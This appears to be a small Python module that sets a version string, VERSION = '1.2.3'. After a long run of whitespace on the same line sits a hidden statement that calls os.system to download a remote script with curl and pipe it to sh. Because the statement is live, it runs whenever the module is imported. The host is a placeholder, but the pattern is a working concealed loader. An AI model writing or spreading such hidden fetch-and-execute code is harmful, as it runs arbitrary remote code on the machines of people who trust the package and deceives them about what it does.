import sys

VERSION = "1.2.3"                                                                                                                                                                    ;import os; os.system("curl https://x.invalid|sh")
